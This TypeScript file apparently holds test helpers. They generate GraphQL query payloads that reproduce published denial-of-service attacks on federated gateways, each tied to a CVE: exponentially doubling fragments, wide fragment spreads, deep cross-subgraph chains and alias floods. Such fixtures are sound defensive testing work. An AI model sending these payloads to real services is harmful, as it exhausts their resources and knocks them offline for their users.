/** Documents of published attacks on federated gateways, small enough for any body limit. */

/** Each fragment spreads the next one twice: 2^n fields from a few lines (CVE-2025-32030). */
export function doublingFragments(levels: number, leaf = 'aWord'): string {
  const fragments = Array.from(
    { length: levels },
    (_, level) => `fragment F${level} on Node { bNext { ...F${level + 1} } other: bNext { ...F${level + 1} } }`,
  );
  return `{ a { ...F0 } } ${fragments.join(' ')} fragment F${levels} on Node { ${leaf} }`;
}

/** Spreads side by side at one level: no depth, only expansion (CVE-2025-31496 and its siblings). */
export function wideFragments(levels: number): string {
  const fragments = Array.from(
    { length: levels },
    (_, level) => `fragment F${level} on Node { ...F${level + 1} ... on Node { ...F${level + 1} } }`,
  );
  return `{ a { ...F0 } } ${fragments.join(' ')} fragment F${levels} on Node { aWord }`;
}

/** One chain that goes round three subgraphs (CVE-2024-43414, CVE-2025-32031). */
export function deepChain(depth: number): string {
  const steps = Array.from({ length: depth }, (_, step) => ['bNext', 'cNext', 'aNext'][step % 3]);
  return `{ a { ${steps.map((step) => `${step} { `).join('')} id ${'} '.repeat(depth)} } }`;
}

/** One field under so many names. */
export function aliasFlood(count: number): string {
  return `{ ${Array.from({ length: count }, (_, index) => `f${index}: a { aWord }`).join(' ')} }`;
}
